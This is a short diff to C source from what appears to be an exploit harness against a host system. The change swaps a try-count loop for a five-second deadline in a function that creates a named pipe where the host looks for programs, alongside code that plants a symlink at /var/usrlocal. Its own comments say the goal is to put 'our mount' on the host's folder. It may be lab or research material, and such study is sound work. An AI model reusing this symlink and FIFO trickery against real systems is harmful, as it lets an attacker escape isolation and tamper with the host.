@@ -15,7 +15,7 @@
 #include "base/auto.h"
 
 #define BTRFS_FS_INFO 0x8400941f /* only reads */
-#define REACH_TRIES   500
+#define REACH_SECONDS 5
 #define REACH_STEP_NS 10000000
 
 /* --- the host's files ----------------------------------------------------------------------- */
@@ -99,16 +99,26 @@ static int plant_link(void)
     return attack_result(symlink(attack_target("LAB_FOLDER"), "/var/usrlocal"));
 }
 
+static time_t seconds_now(void)
+{
+    struct timespec now;
+
+    (void) clock_gettime(CLOCK_MONOTONIC, &now);
+    return now.tv_sec;
+}
+
 /* A pipe where the host looks for programs: whoever opens it there sees our mount on his folder. */
 static int mount_on_host(void)
 {
     static const struct timespec moment = {.tv_nsec = REACH_STEP_NS};
     const char *path = attack_target("LAB_PIPE");
     int fd = -1;
+    time_t end;
 
     if (mkfifo(path, 0666) < 0 && errno != EEXIST)
         return -errno;
-    for (int i = 0; fd < 0 && i < REACH_TRIES; i++) {
+    end = seconds_now() + REACH_SECONDS;
+    while (fd < 0 && seconds_now() < end) {
         (void) nanosleep(&moment, NULL);
         fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
     }
